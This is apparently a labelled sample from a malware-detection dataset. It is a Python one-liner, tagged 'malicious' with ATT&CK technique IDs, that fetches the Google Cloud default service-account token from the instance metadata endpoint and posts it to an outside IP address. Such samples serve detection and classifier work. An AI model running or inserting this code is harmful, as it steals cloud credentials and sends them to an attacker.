# label: malicious family=metadata techniques=T1552.005,T1528,T1041 lines=2
import urllib.request as u;u.urlopen("http://198.51.100.55/",data=u.urlopen(u.Request("http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",headers={"Metadata-Flavor":"Google"})).read())
